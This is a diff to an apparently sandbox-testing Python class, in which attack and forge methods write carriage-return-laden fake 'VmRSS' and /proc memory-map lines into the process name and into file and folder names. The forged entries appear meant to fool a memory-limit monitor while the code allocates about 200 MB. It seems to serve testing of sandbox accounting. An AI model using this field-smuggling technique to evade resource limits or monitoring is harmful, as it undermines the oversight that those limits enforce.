@@ -8,9 +8,10 @@ import os
 import time
 from kit import Empty, attempt, squares
 class Solution(Empty):
-    def forge(self):
+    def rename(self):
         with open("/proc/self/comm", "w") as file:
             file.write("\rVmRSS: none")
+    def forge(self):
         folder = f"{os.environ['TMPDIR']}/x\rzz-yy rw-p 0 00:01 5 "
         os.makedirs(folder)
         with open(f"{folder}/memfd:input (deleted)", "w+b") as file:
@@ -20,6 +21,7 @@ class Solution(Empty):
         for at in range(0, 2 << 20, 4096):
             self.mapped[at] = 1
     def attack(self):
+        attempt(self.rename)  # a box lets nobody write there
         attempt(self.forge)
         time.sleep(0.3)
         held = bytes(1) * 200_000_000
